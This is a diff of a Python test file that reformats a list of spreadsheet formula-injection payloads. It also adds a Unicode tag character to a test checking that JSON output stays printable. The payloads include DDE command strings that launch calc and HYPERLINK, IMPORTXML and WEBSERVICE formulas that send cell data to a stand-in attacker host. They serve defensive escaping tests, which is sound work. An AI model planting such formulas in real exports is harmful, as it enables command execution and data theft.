@@ -15,8 +15,8 @@ PAYLOADS = [
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")",
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=WEBSERVICE("http://evil.example")',
     "+1+1",
     "+cmd|' /C calc'!A0",
     "-1+1",
@@ -133,10 +133,10 @@ def test_json_has_no_nan(capsys):
 
 
 def test_json_drives_no_terminal(capsys):
-    write_table(pa.table({"a": ["\x9b31m\x7f\u202eé"]}), as_json=True)
+    write_table(pa.table({"a": ["\x9b31m\x7f\u202e\U000e0041é"]}), as_json=True)
     out = capsys.readouterr().out
     assert out.strip().isprintable()
-    assert json.loads(out) == {"a": "\x9b31m\x7f\u202eé"}
+    assert json.loads(out) == {"a": "\x9b31m\x7f\u202e\U000e0041é"}
     assert "é" in out
 
 
